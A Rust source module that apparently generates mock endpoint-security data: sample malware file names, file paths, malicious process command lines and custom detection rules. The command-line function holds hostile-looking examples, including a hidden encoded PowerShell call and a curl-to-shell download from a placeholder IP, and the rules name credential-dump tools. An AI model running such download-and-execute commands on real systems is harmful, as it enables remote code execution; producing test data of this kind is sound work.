//! Files, processes and rules of threats, alerts and activities.

use super::organization::Organization;
use crate::random::Random;

/// Name, classification, confidence, extension type.
pub(super) const MALWARE: &[(&str, &str, &str, &str)] = &[
    ("invoice_2291.exe", "Trojan", "malicious", "Executable"),
    ("update.ps1", "Malware", "suspicious", "Script"),
    ("Q3 report.docm", "Malicious Office Document", "malicious", "Document"),
    ("svch0st.exe", "Ransomware", "malicious", "Executable"),
    ("keygen.exe", "Hacktool", "suspicious", "Executable"),
    ("toolbar_setup.exe", "PUA", "suspicious", "Executable"),
    ("eicar.com", "Malware", "malicious", "Executable"),
    ("miner", "Cryptominer", "malicious", "Unknown"),
];

/// Returns a file path for a family of operating systems.
pub(super) fn path(random: &mut Random, os: &str, user: &str, name: &str) -> String {
    match os {
        "windows" | "windows_legacy" => {
            let folder = random.choose(&["Downloads", "Desktop", "AppData\\Local\\Temp"]);
            format!("\\Device\\HarddiskVolume3\\Users\\{user}\\{folder}\\{name}")
        }
        "macos" => format!("/Users/{user}/Downloads/{name}"),
        _ => format!("/var/tmp/.{user}/{name}"),
    }
}

/// Returns the command line of a malicious process.
pub(super) fn arguments(random: &mut Random) -> String {
    let token = random.hex(24);
    (*random.choose(&[
        format!("powershell.exe -nop -w hidden -enc {token}"),
        format!("\"C:\\Windows\\System32\\cmd.exe\" /c start /b rundll32 shell.dll,Run {token}"),
        format!("/bin/sh -c 'curl -s http://192.0.2.77/{token} | sh'"),
    ]))
    .clone()
}

/// Name, severity and query of a custom rule.
pub(super) const RULES: &[(&str, &str, &str)] = &[
    ("Encoded PowerShell", "Medium", "TgtProcName = \"powershell.exe\" AND TgtProcCmdLine Contains \"-enc\""),
    ("Credential dump tool", "Critical", "TgtProcName In Contains (\"mimikatz\",\"procdump\")"),
    ("Login from service account", "Low", "LoginsUserName StartsWith \"svc_\""),
    ("Run key changed", "High", "RegistryKeyPath Contains \"CurrentVersion\\Run\""),
    ("Lookup of a dynamic DNS name", "Info", "DnsRequest EndsWith \".dyn.example\""),
];

/// Returns the id of the rule at `index` of `RULES`.
pub(super) fn rule_id(index: usize) -> String {
    (1_411_223_344_556_677_001_u64 + index as u64).to_string()
}

/// Returns a random index of [`Organization::agents`].
pub(super) fn agent_index(random: &mut Random, org: &Organization) -> usize {
    random.below(org.agents.len() as u64) as usize
}
